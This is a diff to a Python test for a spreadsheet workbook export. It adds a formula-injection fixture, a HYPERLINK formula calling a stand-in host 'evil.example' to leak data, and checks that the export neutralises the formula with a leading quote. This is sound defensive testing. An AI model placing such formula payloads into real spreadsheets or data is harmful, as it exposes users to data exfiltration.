@@ -331,10 +331,12 @@ def test_the_workbook_never_writes_a_small_probability_as_zero():
             "reason_zh": ["甲", "乙"],
             "last_contact": ["2025-01-01", None],
         },
-        index=pd.Index(["p1", "p2"]),
+        index=pd.Index(["p1", '=HYPERLINK("http://evil.example/?leak","open")']),
     )
     book = workbook(rows, Texts("en"))
     assert list(book["Probability"]) == [0.8765, 0.00001235]  # not 0.0: "no risk"
+    # an id a spreadsheet would run (the contract refuses such ids; defused all the same)
+    assert list(book["Person"]) == ["p1", '\'=HYPERLINK("http://evil.example/?leak","open")']
 
 
 def test_followups_are_recorded_shown_audited_and_exported_as_contract_events(
